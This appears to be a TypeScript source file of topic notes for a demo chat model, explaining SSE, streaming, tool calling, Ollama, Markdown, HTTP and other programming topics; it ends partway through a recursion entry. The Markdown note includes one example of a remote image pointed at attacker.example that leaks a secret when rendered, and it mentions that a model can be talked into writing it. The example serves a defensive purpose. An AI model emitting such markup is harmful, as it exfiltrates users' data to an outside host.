/**
 * What the demo model knows: short, correct notes on the topics people try first in a chat about streaming
 * LLM apps (and a few general programming ones). Each note is written so it can be shown as a paragraph, a
 * list, a table row or a long answer without repeating itself.
 */

export interface TopicNote {
  id: string;
  match: RegExp;
  /** As it reads inside a sentence: "server-sent events (SSE)". */
  name: string;
  /** Column heading in a comparison table: "SSE". */
  short: string;
  /** Two or three sentences: what it is and why it matters. */
  summary: string;
  /** Four key points as [label, sentence]. */
  points: Array<[string, string]>;
  /** Table cells for comparisons. */
  kind: string;
  goodFor: string;
  watchOut: string;
  /** Three paragraphs for a long answer (how it works, in practice, pitfalls), none repeating the summary. */
  more: [string, string, string];
}

export const topics: TopicNote[] = [
  {
    id: "sse",
    match: /\bserver[- ]sent[- ]events?\b|\bsse\b|\beventsource\b/i,
    name: "server-sent events (SSE)",
    short: "SSE",
    summary:
      "Server-sent events are a web standard for streaming updates from a server to a browser over one long-lived HTTP response. " +
      "The server writes `text/event-stream` messages as they happen and the browser's `EventSource` API delivers each one as an event.",
    points: [
      ["One direction", "the server pushes, the client listens; requests from the client still go over ordinary HTTP calls."],
      ["Plain HTTP", "each message is a few `field: value` lines (`data:`, `event:`, `id:`) ended by a blank line, so proxies and load balancers handle it like any response."],
      ["Automatic reconnect", "`EventSource` reconnects on its own and sends the last `id:` it saw as the `Last-Event-ID` header, so the server can resume where the stream broke."],
      ["Text only", "payloads are UTF-8 text, usually JSON; binary data needs encoding (base64) or another transport."],
    ],
    kind: "one-way server → client stream over HTTP",
    goodFor: "live feeds, notifications, streaming LLM tokens",
    watchOut: "text only; browsers limit HTTP/1.1 connections per host to six",
    more: [
      "On the wire, an SSE response is just `Content-Type: text/event-stream` and a body that never ends on purpose. Each event is a block of lines such as `id: 42`, `event: token` and `data: {\"text\":\"Hello\"}`, closed by an empty line. Lines starting with a colon are comments, which servers send every few seconds as a heartbeat so idle proxies do not cut the connection.",
      "In practice SSE fits chat apps well: the client sends a message with a normal POST, then subscribes to the answer's stream. Giving every event an increasing id makes a dropped connection cheap to repair, because the client reconnects with `Last-Event-ID` and the server replays only what was missed. Over HTTP/2 many streams share one connection, which removes the old limit of six connections per host.",
      "The pitfalls are mostly about buffering. Compression middleware and some reverse proxies hold the body back until it is large enough, so tokens arrive in bursts; disable buffering for the route (nginx: `X-Accel-Buffering: no`). Servers must also notice when a client goes away and stop producing events, or abandoned streams keep consuming memory and model time.",
    ],
  },
  {
    id: "websockets",
    match: /\bweb ?sockets?\b|\bws:\/\//i,
    name: "WebSockets",
    short: "WebSockets",
    summary:
      "WebSockets give a browser and a server a full-duplex connection: after an HTTP upgrade handshake, both sides can send messages at any time over the same TCP connection. " +
      "They suit interactive apps where the client talks as much as the server.",
    points: [
      ["Two directions", "client and server both send messages whenever they like, with very little framing overhead."],
      ["Upgrade handshake", "the connection starts as an HTTP request with `Upgrade: websocket` and then leaves HTTP behind."],
      ["Text and binary", "messages can carry UTF-8 text or raw binary frames."],
      ["Do-it-yourself recovery", "there is no built-in reconnect or resume; the application has to add heartbeats, reconnects and message ids."],
    ],
    kind: "two-way message channel after an HTTP upgrade",
    goodFor: "multiplayer games, collaborative editing, chat with typing indicators",
    watchOut: "no automatic reconnect; some proxies and firewalls block upgrades",
    more: [
      "A WebSocket connection begins with an ordinary HTTP GET carrying `Upgrade: websocket` and a random key; the server answers `101 Switching Protocols` and from then on both sides exchange frames. Frames are small, can be text or binary, and ping/pong control frames let either side check that the other is still there.",
      "In practice the hard parts are everything around the socket: authenticating the upgrade request, reconnecting after network changes, and making sure messages sent during a reconnect are neither lost nor applied twice. Libraries such as Socket.IO add those features on top, at the cost of their own protocol.",
      "WebSockets are the better tool when the client sends a steady stream of small messages, such as cursor positions or game inputs. When the server does almost all of the talking, as when streaming a model's answer, server-sent events are simpler: they stay plain HTTP, and reconnection with resume is part of the standard.",
    ],
  },
  {
    id: "streaming",
    match: /\bstreaming\b|\bstreams?\b|\bstreamed\b/i,
    name: "streaming",
    short: "Streaming",
    summary:
      "Streaming means sending a response piece by piece while it is still being produced, instead of waiting for the whole thing. " +
      "For a language model that means showing each token as soon as it is generated, so the first words appear in a fraction of a second instead of after the full answer.",
    points: [
      ["Faster first impression", "time to first token, not total time, decides how fast a chat feels."],
      ["Chunked transport", "HTTP sends the body in chunks (NDJSON lines for Ollama, SSE events for OpenAI-compatible servers)."],
      ["Backpressure", "a slow reader should slow the writer down instead of letting buffers grow without limit."],
      ["Cancellation", "when the reader leaves, the producer should stop: an abandoned stream still costs model time."],
    ],
    kind: "sending output incrementally while it is produced",
    goodFor: "LLM answers, large downloads, logs and live data",
    watchOut: "buffering proxies, partial lines, and work that continues after the client left",
    more: [
      "Under the hood, a streamed HTTP response has no Content-Length: the server writes chunks as they become available and ends the body when it is done. Ollama writes one JSON object per line (NDJSON) with a `done: true` line at the end; OpenAI-compatible servers send `data:` events and a final `data: [DONE]`. A client must be ready for a chunk boundary anywhere, even in the middle of a line or of a multi-byte character.",
      "A robust streaming app treats the stream as a log rather than a one-shot response. If every event is stored with a sequence number, a client that reloads the page or loses its connection can ask for everything after the last number it saw and continue without duplicated or missing text. That is what this chat does: runs keep going on the server while clients come and go.",
      "The classic mistakes are buffering and leaks. A compression layer that waits for 8 KB before sending turns a smooth stream into bursts, and a server that keeps generating after the user pressed Stop or closed the tab wastes compute. Test both: measure that tokens arrive one by one, and check that closing the client really closes the upstream request.",
    ],
  },
  {
    id: "tools",
    match: /\btool[- ]?(?:calling|calls?|use|using)\b|\bfunction[- ]calling\b|\btools\b|\bagents?\b/i,
    name: "tool calling",
    short: "Tool calling",
    summary:
      "Tool calling lets a language model ask the application to run a function, such as looking up the time or doing arithmetic, and then answer with the result. " +
      "The model never runs code itself: it emits a structured request with a tool name and JSON arguments, the application executes it, and sends the result back in the next turn.",
    points: [
      ["Described by schemas", "each tool has a name, a description and a JSON Schema for its arguments, sent with the request."],
      ["A loop, not a call", "model → tool call → application runs it → tool result → model continues, possibly calling more tools."],
      ["Validate everything", "arguments come from the model, so they are untrusted input: check them against the schema and handle errors."],
      ["Bounded", "limit the number of rounds and each tool's running time so a confused model cannot loop forever."],
    ],
    kind: "letting the model request function calls",
    goodFor: "fresh data, exact arithmetic, actions in other systems",
    watchOut: "untrusted arguments, runaway loops, models without tool support",
    more: [
      "A round works like this: the application sends the conversation plus the tool definitions; the model answers with a `tool_calls` entry such as `current_time({\"timeZone\":\"Asia/Tokyo\"})` instead of text; the application runs the function and appends a `tool` message with the result; then it calls the model again. Only when the model answers with plain text is the turn over.",
      "In this chat you can try it directly: ask for the time in a city, for some arithmetic, or to search your past conversations. The answer shows a card for each tool call with its arguments, its result and how long it took, and the model's final answer is written from that result rather than from memory.",
      "Not every model supports tools: on Ollama, models such as gemma3 reject requests that include tool definitions, so a client should check the model's capabilities and leave the tools out for those. Tool results also flow back into the prompt, so a tool that returns huge outputs, or text written by an attacker, can derail the model. Keep results small and treat them as data.",
    ],
  },
  {
    id: "ollama",
    match: /\bollama\b/i,
    name: "Ollama",
    short: "Ollama",
    summary:
      "Ollama runs open-weight language models such as Llama, Qwen and Gemma on your own machine and serves them over a local HTTP API on port 11434. " +
      "It downloads and manages models, loads them on demand, and streams answers token by token.",
    points: [
      ["Local first", "prompts and answers stay on your machine; no API key or account is needed."],
      ["Simple API", "`POST /api/chat` streams NDJSON lines; `/api/tags` lists models and `/api/show` reports a model's capabilities."],
      ["OpenAI-compatible too", "`/v1/chat/completions` lets tools written for OpenAI's API talk to local models."],
      ["Model capabilities differ", "some models support tools or thinking, others only plain completion."],
    ],
    kind: "a local server for open-weight models",
    goodFor: "private, offline or cost-free LLM use",
    watchOut: "needs RAM/VRAM for the model; capabilities vary by model",
    more: [
      "Getting started takes two commands: install Ollama, then `ollama pull llama3.2` (or another model) and `ollama serve` if it is not already running as a service. The first request loads the model into memory, which takes a few seconds; later requests answer quickly until the model is unloaded after a few idle minutes.",
      "This chat talks to Ollama directly: with `CHAT_PROVIDER=auto` it checks `OLLAMA_HOST` at start-up and uses Ollama when it answers, otherwise it falls back to this built-in demo model. The model picker lists what `/api/tags` reports, and each model's capabilities decide whether tools and the Think toggle are offered.",
      "Size is the main trade-off. Small models (1–4 B parameters) run on a laptop CPU but make more mistakes; larger ones need a GPU with enough memory. Quantized builds such as Q4_K_M shrink memory use a lot for a small loss in quality, which is why they are Ollama's default downloads.",
    ],
  },
  {
    id: "typescript",
    match: /\btypescript\b/i,
    name: "TypeScript",
    short: "TypeScript",
    summary:
      "TypeScript is JavaScript with a static type system: you annotate values with types, the compiler checks them before the code runs, and the output is ordinary JavaScript. " +
      "It catches whole classes of bugs early and makes editors far more helpful.",
    points: [
      ["Structural types", "a value fits a type when it has the right shape, not because of a declared class."],
      ["Inference", "most types are inferred, so annotations are needed mainly at function boundaries."],
      ["Erased at runtime", "types disappear in the emitted JavaScript, so data from outside still needs runtime validation (zod, for example)."],
      ["Gradual", "existing JavaScript can be adopted file by file, tightening `strict` options over time."],
    ],
    kind: "typed superset of JavaScript",
    goodFor: "large codebases, refactoring, shared API contracts",
    watchOut: "types vanish at runtime; `any` silently turns checking off",
    more: [
      "The type system is richer than it first looks. Union types such as `\"stop\" | \"length\"` model exactly which values are allowed, discriminated unions let the compiler narrow an event by its `type` field, and generics keep containers and helpers precise. With `strict` on, the compiler also tracks `null` and `undefined`, which removes a large share of runtime errors.",
      "In a full-stack project the biggest win is sharing types across the network boundary. This chat's web client imports the server's router type, so calling a procedure with the wrong input is a compile error, and the event union the server streams is the same type the UI's reducer switches over.",
      "The main trap is trusting types that were never checked. A `JSON.parse` result cast to an interface is only a promise, not a proof; validate input at the edges and derive the static type from the validator (`z.infer`) so the two cannot drift apart. Avoid `any`, prefer `unknown`, and let the compiler do the narrowing.",
    ],
  },
  {
    id: "javascript",
    match: /\bjavascript\b/i,
    name: "JavaScript",
    short: "JavaScript",
    summary:
      "JavaScript is the language of the web: every browser runs it, and Node.js, Deno and Bun run it on servers too. " +
      "It is dynamically typed, single-threaded with an event loop, and built around asynchronous I/O.",
    points: [
      ["Event loop", "one thread runs your code; I/O happens in the background and callbacks or promises resume the work."],
      ["Dynamic types", "values carry types at runtime, and variables can hold anything."],
      ["First-class functions", "functions are values, which makes callbacks, closures and higher-order helpers natural."],
      ["Everywhere", "the same language runs in browsers, servers, edge functions and build tools."],
    ],
    kind: "dynamic language of the web",
    goodFor: "browser apps, I/O-heavy servers, scripting",
    watchOut: "implicit type coercion; blocking the event loop stalls everything",
    more: [
      "The event loop is the key idea. A long synchronous computation blocks every other request a Node.js server is handling, while waiting on I/O costs nothing, because the runtime parks the task and runs other work. CPU-heavy jobs belong in worker threads or separate processes.",
      "Modern JavaScript reads very differently from the code of ten years ago: `const` and `let`, arrow functions, modules with `import`, classes, destructuring, and `async`/`await` over promises. Most projects now add TypeScript on top for static checking.",
      "Its traps are well known: `==` converts types before comparing (use `===`), numbers are 64-bit floats (`0.1 + 0.2 !== 0.3`), and `this` depends on how a function is called. Linters and TypeScript catch most of them before they reach users.",
    ],
  },
  {
    id: "python",
    match: /\bpython\b/i,
    name: "Python",
    short: "Python",
    summary:
      "Python is a general-purpose language known for readable code and a huge ecosystem. " +
      "It dominates data science and machine learning, and is widely used for scripting, automation and web back ends.",
    points: [
      ["Readable", "indentation is part of the syntax, and the standard style favours plain, explicit code."],
      ["Batteries included", "the standard library covers files, HTTP, JSON, CSV, dates, testing and more."],
      ["Ecosystem", "NumPy, pandas, PyTorch, FastAPI and hundreds of thousands of packages on PyPI."],
      ["Optional typing", "type hints plus a checker such as mypy or pyright add static checks without changing how code runs."],
    ],
    kind: "readable general-purpose language",
    goodFor: "data work, machine learning, scripting, web back ends",
    watchOut: "slower for CPU-bound loops; environment and dependency management",
    more: [
      "Python's speed comes from its libraries rather than its interpreter: NumPy and PyTorch do the heavy lifting in compiled code, so a few lines of Python can drive very fast numerical work. Pure-Python loops over millions of items are slow by comparison, and the usual fix is to vectorise or move the hot loop into a library.",
      "For projects, isolate dependencies per project with a virtual environment (`python -m venv .venv`) or a tool such as uv or Poetry, and pin versions in a lock file. Type hints on function signatures, checked in CI, catch many mistakes early and make editors much more helpful.",
      "Concurrency needs a moment's thought: threads help with I/O-bound work, `asyncio` serves many connections in one thread, and CPU-bound work goes to processes because of the global interpreter lock (free-threaded builds are arriving from Python 3.13).",
    ],
  },
  {
    id: "rust",
    match: /\brust\b/i,
    name: "Rust",
    short: "Rust",
    summary:
      "Rust is a systems programming language that guarantees memory safety without a garbage collector. " +
      "Its ownership and borrowing rules are checked at compile time, so whole classes of crashes and data races cannot happen in safe code.",
    points: [
      ["Ownership", "every value has one owner; borrowing rules decide who may read or change it and for how long."],
      ["Zero-cost abstractions", "iterators, generics and traits compile down to code as fast as hand-written loops."],
      ["Errors as values", "`Result` and `Option` make failure explicit, and `?` passes errors up concisely."],
      ["Cargo", "one tool builds, tests, documents and fetches dependencies from crates.io."],
    ],
    kind: "memory-safe systems language",
    goodFor: "performance-critical services, CLIs, embedded, WebAssembly",
    watchOut: "a steep learning curve around the borrow checker; longer compile times",
    more: [
      "The borrow checker is what makes Rust different: at any moment a value may have either many shared references or one mutable reference, never both. That rule, checked by the compiler, prevents use-after-free, double frees and data races without any runtime cost.",
      "In day-to-day work Rust feels high-level: pattern matching, enums with data, traits, closures and iterator chains. The compiler's error messages are unusually helpful and often suggest the fix, which shortens the learning curve.",
      "The costs are real: compile times are longer than in Go or C, async Rust has sharp edges, and fighting the borrow checker is common at first. Teams usually adopt it for the parts where speed and reliability matter most, such as parsers, networking and command-line tools.",
    ],
  },
  {
    id: "react",
    match: /\breact(?:\.?js)?\b/i,
    name: "React",
    short: "React",
    summary:
      "React is a JavaScript library for building user interfaces from components: functions that take props and return a description of the UI. " +
      "When state changes, React re-renders the affected components and updates only the parts of the page that differ.",
    points: [
      ["Components", "small functions that compose into a whole app and can be reused."],
      ["State and hooks", "`useState`, `useEffect` and friends give function components memory and side effects."],
      ["One-way data flow", "data goes down through props, events come back up through callbacks."],
      ["Declarative", "you describe what the UI should look like for a given state; React works out the DOM updates."],
    ],
    kind: "component-based UI library",
    goodFor: "interactive single-page apps and design systems",
    watchOut: "needless re-renders; effects with missing dependencies",
    more: [
      "A React component is just a function: it receives props, reads state through hooks, and returns JSX. Rendering must be pure, so side effects such as subscriptions or timers go in `useEffect`, which also returns a cleanup function that runs when the component goes away.",
      "For streaming UIs the main concern is render frequency. Updating state for every token can mean hundreds of renders per second; batching updates once per animation frame keeps the page smooth, and a reducer makes it easy to rebuild the same state from a replayed event log.",
      "Common mistakes include storing derived values in state, missing dependencies in effects, and creating new objects in props on every render so memoised children re-render anyway. React's developer tools and the hooks lint rules catch most of these early.",
    ],
  },
  {
    id: "markdown",
    match: /\bmarkdown\b/i,
    name: "Markdown",
    short: "Markdown",
    summary:
      "Markdown is a lightweight markup language: plain text with a few conventions (`**bold**`, `# headings`, `- lists`, code fences) that renders to formatted HTML. " +
      "Chat apps use it because models naturally write it and it stays readable even unrendered.",
    points: [
      ["Readable as text", "the source looks fine even where it is not rendered."],
      ["GitHub Flavored Markdown", "adds tables, task lists, strikethrough and autolinks to the original syntax."],
      ["Code fences", "three backticks plus a language name give syntax-highlighted code blocks."],
      ["Sanitise on render", "model output is untrusted: raw HTML, `javascript:` links and remote images must not run or load."],
    ],
    kind: "plain-text formatting syntax",
    goodFor: "chat answers, READMEs, notes and documentation",
    watchOut: "raw HTML and remote images in untrusted text",
    more: [
      "The core syntax fits on an index card: `#` for headings, `*` or `_` for emphasis, `-` or `1.` for lists, `>` for quotes, `[text](url)` for links and `![alt](url)` for images. Tables use pipes and a dashed separator row, and fenced code blocks carry a language tag for highlighting.",
      "Rendering model output safely matters because a model can be talked into writing anything. A remote image such as `![](https://attacker.example/?q=secret)` leaks data the moment the browser loads it, so this chat only renders same-origin and `data:` images and shows other image links as plain links.",
      "Streaming adds a twist: while an answer is arriving, a code fence or a table may be half written. Renderers that re-parse the whole text on each update handle that naturally; the UI just needs to throttle re-renders so long answers stay smooth.",
    ],
  },
  {
    id: "json",
    match: /\bjson\b/i,
    name: "JSON",
    short: "JSON",
    summary:
      "JSON (JavaScript Object Notation) is a text format for structured data made of objects, arrays, strings, numbers, booleans and null. " +
      "It is the default payload of web APIs because every language can read and write it.",
    points: [
      ["Small grammar", "six value types, double-quoted strings, no comments and no trailing commas."],
      ["Everywhere", "every mainstream language has a fast built-in or standard parser."],
      ["No schema by itself", "JSON Schema, zod or Pydantic describe and validate the expected shape."],
      ["Streaming variants", "NDJSON puts one JSON value per line so a stream can be parsed line by line."],
    ],
    kind: "text format for structured data",
    goodFor: "web APIs, configuration, logs",
    watchOut: "no comments, no dates, large integers lose precision in JavaScript",
    more: [
      "JSON's strict grammar is a feature: a parser either accepts a document or rejects it, with no ambiguity. The flip side is that comments, trailing commas and single quotes are all errors, which is why configuration files often use JSONC, YAML or TOML instead.",
      "Types are limited. There is no date type (send ISO 8601 strings), no binary (use base64), and numbers are decimals without a declared size, so JavaScript loses precision past 2^53; send large identifiers as strings.",
      "Always validate JSON that crosses a trust boundary. Parsing only proves the text is well formed; a schema check proves it has the fields and types the code expects, and gives a clear error instead of a crash deep inside the program.",
    ],
  },
  {
    id: "rest",
    match: /\brest(?:ful)?\b|\bapis?\b/i,
    name: "REST APIs",
    short: "REST",
    summary:
      "A REST API exposes resources at URLs and uses HTTP methods to act on them: GET reads, POST creates, PUT or PATCH updates, DELETE removes. " +
      "Status codes report the outcome and JSON usually carries the data.",
    points: [
      ["Resources and URLs", "`/conversations/42/messages` names a thing; the method says what to do with it."],
      ["Status codes", "200 and 201 for success, 400 for bad input, 401/403 for auth, 404 for missing, 5xx for server faults."],
      ["Stateless", "each request carries everything needed (including credentials), so servers scale horizontally."],
      ["Cacheable", "GET responses can be cached by browsers and proxies with the right headers."],
    ],
    kind: "resource-oriented HTTP API style",
    goodFor: "public APIs, CRUD services, cacheable reads",
    watchOut: "over- and under-fetching; inconsistent error shapes",
    more: [
      "Good REST APIs are predictable: plural nouns for collections, consistent field names, the same error body everywhere (a machine-readable code plus a human message), and correct methods, so GET never changes anything and PUT and DELETE can be retried safely.",
      "Versioning and pagination deserve thought early. Adding fields is safe, removing or renaming them breaks clients; cursor-based pagination stays correct while data changes, unlike page numbers. Document it all with an OpenAPI description so clients can be generated.",
      "REST is not the only option: RPC styles such as tRPC or gRPC fit internal APIs where client and server are built together, and streaming answers need SSE, WebSockets or chunked responses on top of plain request/response.",
    ],
  },
  {
    id: "trpc",
    match: /\btrpc\b/i,
    name: "tRPC",
    short: "tRPC",
    summary:
      "tRPC lets a TypeScript client call server procedures as if they were local functions, with the types shared end to end and no code generation. " +
      "Inputs are validated on the server (usually with zod), and the client's types come straight from the server's router.",
    points: [
      ["End-to-end types", "the client imports the router's type, so a renamed field breaks the build, not production."],
      ["Queries, mutations, subscriptions", "reads, writes and streams, the latter over server-sent events."],
      ["Validation at the edge", "each procedure declares an input parser that rejects bad requests with a typed error."],
      ["Plain HTTP underneath", "requests are ordinary GET and POST calls, easy to log and debug."],
    ],
    kind: "typed RPC for TypeScript",
    goodFor: "full-stack TypeScript apps with one team owning both ends",
    watchOut: "TypeScript-only clients; not a public API format",
    more: [
      "A tRPC server is a router of procedures, each with an input validator and a resolver. The client is created from the router's type alone, so autocompletion and compile-time checks cover every call and every field of every response.",
      "Subscriptions make tRPC useful for streaming: a procedure can be an async generator that yields events, delivered to the browser over SSE, and tracked events carry ids so a reconnecting client resumes after the last one it saw. This chat streams every run that way.",
      "The limits follow from the design: other languages cannot use the types, and the URL layout is an implementation detail, so public APIs are better served by REST with an OpenAPI description, possibly next to tRPC for the app's own front end.",
    ],
  },
  {
    id: "http",
    match: /\bhttps?\b/i,
    name: "HTTP",
    short: "HTTP",
    summary:
      "HTTP is the request/response protocol of the web: a client sends a method, a path, headers and maybe a body; the server answers with a status code, headers and a body. " +
      "HTTP/1.1 runs over TCP, HTTP/2 multiplexes many requests on one connection, and HTTP/3 runs over QUIC.",
    points: [
      ["Methods", "GET, POST, PUT, PATCH, DELETE and more, each with agreed meaning (safe, idempotent, or neither)."],
      ["Status codes", "2xx success, 3xx redirect, 4xx client error, 5xx server error."],
      ["Headers", "content type, caching, authentication, compression and connection handling all live in headers."],
      ["Streaming bodies", "chunked transfer lets a response be sent while it is being produced."],
    ],
    kind: "the web's request/response protocol",
    goodFor: "nearly every networked application",
    watchOut: "timeouts, retries of non-idempotent requests, head-of-line blocking in HTTP/1.1",
    more: [
      "A request line such as `GET /api/tags HTTP/1.1`, a few headers and an empty line are all an HTTP/1.1 request needs, which is why it is so easy to debug with curl. Keep-alive reuses a TCP connection for many requests, and HTTP/2 goes further by interleaving them on one connection as separate streams.",
      "Reliable clients set timeouts on every request, retry only idempotent ones, and back off between attempts. Servers should cap body sizes, answer with clear status codes and error bodies, and close or reuse connections deliberately.",
      "Long-lived responses, like a streamed model answer, need care at every hop: proxies may buffer or time out idle connections, so heartbeats and disabled buffering matter as much as the application code.",
    ],
  },
  {
    id: "caching",
    match: /\bcach(?:e|es|ed|ing)\b/i,
    name: "caching",
    short: "Caching",
    summary:
      "Caching keeps the result of expensive work close at hand so the next request for it is fast. " +
      "It trades memory and freshness for speed, and the hard part is deciding when a cached value is no longer valid.",
    points: [
      ["Layers", "CPU caches, in-process memory, Redis or Memcached, HTTP caches and CDNs all apply the same idea."],
      ["Invalidation", "expire entries by time (TTL), evict them on change, or version the keys."],
      ["Eviction", "a bounded cache needs a policy such as least recently used (LRU) when it is full."],
      ["Hit rate", "measure it: a cache that rarely hits only adds complexity."],
    ],
    kind: "reusing earlier results to save work",
    goodFor: "repeated reads, expensive computations, static assets",
    watchOut: "stale data, unbounded growth, thundering herds on expiry",
    more: [
      "The simplest cache is a map from a key to a value with an expiry time. Every cache needs a bound, though: without a maximum size or an eviction policy it is a memory leak with good intentions. An LRU cache keeps the most recently used entries and drops the oldest when full.",
      "HTTP has caching built in. `Cache-Control: max-age=31536000, immutable` lets browsers keep fingerprinted assets for a year, `ETag` and `If-None-Match` turn repeat downloads into tiny 304 responses, and `no-store` keeps private data out of shared caches.",
      "The classic problems are staleness and stampedes. When a popular entry expires, hundreds of requests may recompute it at once; request coalescing, or serving the stale value while one request refreshes it, avoids that. And when correctness matters more than speed, invalidate on write instead of waiting for a TTL.",
    ],
  },
  {
    // Written with TeX in the forms models use (\(…\), $…$, $$…$$), so the offline demo shows the UI's math.
    id: "temperature",
    // Not "the temperature in Paris": that is weather, which the demo says it does not know.
    match: /\b(?:sampling|model|llm|softmax)(?:'s)? temperature\b|\btemperature (?:sampling|parameter|setting)s?\b|\bsoftmax\b|\btop[- _]p\b/i,
    name: "sampling temperature",
    short: "Temperature",
    summary:
      "Temperature rescales a model's scores before it samples the next token: token \\(i\\) gets the probability \\(p_i = \\frac{e^{z_i/T}}{\\sum_j e^{z_j/T}}\\), where \\(z_i\\) is the model's score (logit) for it and \\(T\\) the temperature. " +
      "A low \\(T\\) lets the most likely token win almost every time; a high one spreads the choice over more tokens.",
    points: [
      ["Softmax", "the scores become probabilities that sum to 1, and dividing them by $T$ first is all that temperature does."],
      ["Low temperature", "as $T \\to 0$ sampling becomes greedy: the top token every time, repeatable but prone to loops."],
      ["High temperature", "$T > 1$ flattens the distribution, so rarer tokens get picked: more varied, less reliable."],
      ["Top-p", "applied after it: only the smallest set of tokens whose probabilities add up to $p$ (say $0.9$) stays in the draw."],
    ],
    kind: "a knob on how the next token is sampled",
    goodFor: "$T \\approx 0.2$ for code and facts, $0.7$ to $1$ for writing",
    watchOut: "too low repeats itself, too high drifts off topic",
    more: [
      "A model ends each step with a score \\(z_i\\) for every token in its vocabulary. Temperature divides the scores before the softmax turns them into probabilities:\n\n$$\np_i = \\frac{\\exp(z_i / T)}{\\sum_j \\exp(z_j / T)}\n$$\n\nWith \\(T = 1\\) the model's distribution is used as trained; \\(T < 1\\) sharpens it and \\(T > 1\\) flattens it.",
      "Take two tokens with scores 2 and 1. At \\(T = 1\\) they get about 73% and 27%; at \\(T = 0.5\\) the gap between the scores doubles and the first gets about 88%; at \\(T = 2\\) it halves, and the split is about 62% to 38%.",
      "In Ollama, `temperature`, `top_p` and `top_k` go in a request's `options` (temperature is 0.8 unless the model sets its own). A temperature of 0 with a fixed `seed` gives repeatable answers, which helps tests; for chat, values from 0.6 to 0.9 usually read best.",
    ],
  },
  {
    id: "llm",
    match: /\bllms?\b|\blarge language models?\b|\blanguage models?\b|\btokens\b|\btokeni[sz]|\btransformers?\b|\bchatbots?\b/i,
    name: "large language models",
    short: "LLMs",
    summary:
      "A large language model predicts the next token of text given everything before it, one token at a time. " +
      "Trained on huge amounts of text, that simple objective yields models that can answer questions, write code and follow instructions.",
    points: [
      ["Tokens", "text is split into sub-word pieces; a token is roughly three quarters of an English word."],
      ["Context window", "the model only sees a fixed number of tokens: the conversation, any tool results, and its own answer so far."],
      ["Sampling", "temperature and top-p decide how adventurous the choice of each next token is."],
      ["No built-in facts", "models can be confidently wrong; tools and retrieval give them fresh, checkable data."],
    ],
    kind: "next-token predictors trained on text",
    goodFor: "drafting, summarising, coding help, natural-language interfaces",
    watchOut: "hallucinations, context limits, prompt injection",
    more: [
      "Generation is a loop: the model reads the prompt, computes a probability for every token in its vocabulary, one is sampled, appended, and the loop runs again. That is why answers stream naturally, and why the time to the first token depends on the prompt's length while the speed afterwards depends on the model's size and hardware.",
      "Chat models are trained further to follow instructions and to use a message format with roles (system, user, assistant, tool). Some can also produce a separate reasoning stream before the answer (thinking), and many can call tools when the application offers them.",
      "Their weak spots are worth designing around: they cannot know anything after their training data, they may invent plausible details, and text in their input can try to give them instructions. Keep a human or a check in the loop for anything that matters, and treat model output as untrusted input when rendering or executing it.",
    ],
  },
  {
    id: "docker",
    match: /\bdocker\b|\bcontainers?\b|\bdockerfile\b/i,
    name: "Docker",
    short: "Docker",
    summary:
      "Docker packages an application with everything it needs to run into an image, and runs that image as an isolated container. " +
      "The same image runs the same way on a laptop, in CI and in production.",
    points: [
      ["Images", "built from a Dockerfile in layers; unchanged layers are cached and shared."],
      ["Containers", "running instances of an image, isolated with Linux namespaces and cgroups rather than a full virtual machine."],
      ["Registries", "images are pushed to and pulled from registries such as Docker Hub or GHCR."],
      ["Compose", "`docker compose` describes multi-container setups (app, database, cache) in one file."],
    ],
    kind: "packaging and running apps in containers",
    goodFor: "reproducible environments, deployment, CI",
    watchOut: "large images, running as root, secrets baked into layers",
    more: [
      "A Dockerfile is a recipe: start from a base image, copy files, install dependencies, and declare the command to run. Ordering matters for speed, so copy the dependency manifest and install before copying the source, and edits to the code will not bust the dependency layer's cache.",
      "Multi-stage builds keep production images small: compile in a stage with the full toolchain, then copy only the output into a slim runtime image. Smaller images pull faster and contain fewer packages with vulnerabilities.",
      "For production, run as a non-root user, pass secrets at runtime rather than in the image, add a health check, and handle SIGTERM so the container shuts down gracefully when the orchestrator stops it.",
    ],
  },
  {
    id: "git",
    match: /\bgit\b|\bgithub\b/i,
    name: "Git",
    short: "Git",
    summary:
      "Git is a distributed version control system: every clone holds the full history of a project as a graph of commits. " +
      "Branches are cheap pointers into that graph, which makes parallel work and experiments easy.",
    points: [
      ["Commits", "snapshots of the whole project with a message, an author and parent commits."],
      ["Branches", "movable names for commits; merging or rebasing brings work together."],
      ["Staging area", "`git add` chooses exactly what goes into the next commit."],
      ["Remotes", "`fetch`, `pull` and `push` sync with servers such as GitHub or GitLab."],
    ],
    kind: "distributed version control",
    goodFor: "tracking changes, collaboration, code review",
    watchOut: "rewriting shared history; committing secrets",
    more: [
      "Each commit is identified by a hash of its content and its parents, so history cannot be changed silently. That is also why rewriting commits (rebase, amend) is safe on your own branch but disruptive on one others have already pulled.",
      "A typical workflow is a short-lived branch per change, small commits with messages that explain why, and a pull request where tests run and a colleague reviews before merging into the main branch.",
      "When things go wrong, `git reflog` remembers where your branches pointed recently, so even a bad reset is usually recoverable. Secrets are the exception: once pushed, assume they are leaked and rotate them, because removing them from history does not remove them from every clone.",
    ],
  },
  {
    id: "sqlite",
    match: /\bsqlite\b|\bsql\b|\bdatabases?\b/i,
    name: "SQLite",
    short: "SQLite",
    summary:
      "SQLite is a complete SQL database in a library: no server process, just one file on disk that your application reads and writes directly. " +
      "It is the most widely deployed database in the world, inside phones, browsers and countless apps.",
    points: [
      ["Embedded", "the database runs in your process; opening a file is all the setup there is."],
      ["Transactions", "full ACID transactions, so a crash never leaves half-written data."],
      ["WAL mode", "write-ahead logging lets readers continue while one writer commits."],
      ["One writer at a time", "great for most apps, but heavy concurrent writes need batching or a server database."],
    ],
    kind: "embedded SQL database in a file",
    goodFor: "apps, local-first tools, small and medium web services",
    watchOut: "a single writer; network file systems",
    more: [
      "Using SQLite well starts with a few settings: `journal_mode=WAL` for concurrent readers, `synchronous=NORMAL` for a good balance of safety and speed, a `busy_timeout` so writers wait instead of failing, and prepared statements for every query.",
      "It is fast because there is no network hop: a simple indexed query takes microseconds. Batching many inserts in one transaction turns thousands of slow commits into one fast one, which matters for write-heavy workloads such as event logs.",
      "This chat stores conversations and every streamed event in SQLite, so a run's stream can be replayed after a reload or a server restart. Node.js 22.13 and later ship a built-in `node:sqlite` module, so no native add-on is needed.",
    ],
  },
  {
    id: "recursion",
    match: /\brecursi(?:on|ve|vely)\b/i,
    name: "recursion",
    short: "Recursion",
    summary:
      "Recursion is when a function solves a problem by calling itself on a smaller version of the same problem, until it reaches a case simple enough to answer directly. " +
      "It is the natural fit for trees, nested data and divide-and-conquer algorithms.",
    points: [
      ["Base case", "every recursive function needs a case that returns without recursing, or it never stops."],
      ["Smaller steps", "each call must move towards the base case."],
      ["Call stack", "every pending call uses stack space; very deep recursion overflows it."],
